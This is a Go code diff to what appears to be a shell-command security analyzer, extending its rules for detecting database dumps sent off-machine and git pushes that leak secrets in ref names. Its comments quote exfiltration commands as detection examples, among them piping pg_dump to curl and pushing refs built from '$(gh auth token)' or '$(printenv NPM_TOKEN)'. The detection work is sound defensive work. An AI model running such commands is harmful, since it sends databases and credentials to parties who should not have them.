@@ -156,6 +156,13 @@ func (a *analysis) sources(i int, c *shell.Command, f *cmdFacts, cl *catalog.Cla
 			// the machine is a leak; a dev database's is not.
 			f.source, f.origin = "production-data", c.Name
 		}
+		if f.source == "" && e.Prop("dumps") != "" && !helpOrDryRunOf(cl, c.Args) {
+			// pg_dump app | curl -T - URL, mysqldump app | ssh HOST 'cat >
+			// x': a database's records, which sent to another machine
+			// are a dump leaving it, as the dump file copied there is
+			// (copytargets.go); kept here they are everyday work
+			f.source, f.origin = "database-dump", c.Name
+		}
 		if f.source == "" && e.Prop("sends-local") != "" && copiesDatabaseHere(cl) && a.productionWord(i) != "" {
 			// kubectl cp production/db-0:/data/backup.sql /tmp/b.sql, scp
 			// deploy@prod-db:dump.sql .: production's database copied onto
@@ -1044,10 +1051,11 @@ func (a *analysis) flows() {
 			// remote (pass git push is how the store is kept).
 			repo = "credential"
 		}
-		if repo == "" && a.entryHas(c, f, "push") && (args == "secret" || args == "credential" || args == "environment" || f.secretArg && refExpands(c.Args)) {
+		if repo == "" && a.entryHas(c, f, "push") && (args == "secret" || args == "secret-variable" || args == "credential" || args == "environment" || f.secretArg && refExpands(c.Args)) {
 			// git push x "main:refs/heads/$(gh auth token)", git push
-			// origin "HEAD:$OPENAI_API_KEY": a ref the secret names, made
-			// on the remote for anyone who lists it
+			// origin "HEAD:$OPENAI_API_KEY", "HEAD:$(printenv NPM_TOKEN)":
+			// a ref the secret names, made on the remote for anyone who
+			// lists it
 			what := args
 			if what == "" {
 				what = "credential"
